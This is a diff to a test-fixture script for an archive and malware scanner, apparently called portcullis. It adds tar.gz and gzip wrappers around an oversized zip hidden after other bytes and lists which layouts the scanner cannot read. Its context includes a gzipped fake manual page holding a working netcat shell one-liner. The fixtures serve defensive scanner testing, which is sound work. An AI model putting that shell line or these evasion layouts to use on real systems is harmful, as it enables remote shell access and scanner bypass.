@@ -334,6 +334,11 @@ put('big.jmod', b'JM\x01\x00' + bytes(zipbytes([('lib/pad', pad), ('bin/agent', 
 # the same over max_file_bytes (read as it streams by): its members cannot be read then
 put('big-with-zip', open(ls, 'rb').read() + pad + bytes(z))
 assert zipfile.ZipFile(os.path.join(out, 'big-with-zip')).read('bin/agent') == data
+# and as an archive member: in a tar (its size known) and gzipped (its size known at its end only)
+bwz = open(os.path.join(out, 'big-with-zip'), 'rb').read()
+with tarfile.open(os.path.join(out, 'big-with-zip.tar.gz'), 'w:gz') as t:
+    ti = tarfile.TarInfo('app/agentpack'); ti.size = len(bwz); t.addfile(ti, io.BytesIO(bwz))
+put('big-with-zip.gz', gzip.compress(bwz))
 # a script that starts as a manual page: sh runs it all the same
 shell = b'.TH NOTES 1\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -l 127.0.0.1 1234 > /tmp/f\n'
 put('notes.gz', gzip.compress(shell))
@@ -382,6 +387,8 @@ nc.xz tools-only needs more memory to decode than portcullis allows
 deflate64.zip tools-only member bin/agent: zip compression method 9, which portcullis does not decode
 bigoverlap.zip tools-only zip member bin/agent is not where the archive's local headers lead
 big-with-zip tools-only a zip archive after other bytes \(what unzip and python3 FILE read\), in a file over yara.max_file_bytes
+big-with-zip.tar.gz tools-only a zip archive after other bytes \(what unzip and python3 FILE read\), in the archive member app/agentpack over yara.max_file_bytes
+big-with-zip.gz tools-only a zip archive after other bytes \(what unzip and python3 FILE read\), in the archive member \(gzip\) over yara.max_file_bytes
 biggap.zip tools-only the zip cannot be followed to its central directory as it streams by
 E
 # a gzipped manual page is passed over only where man looks
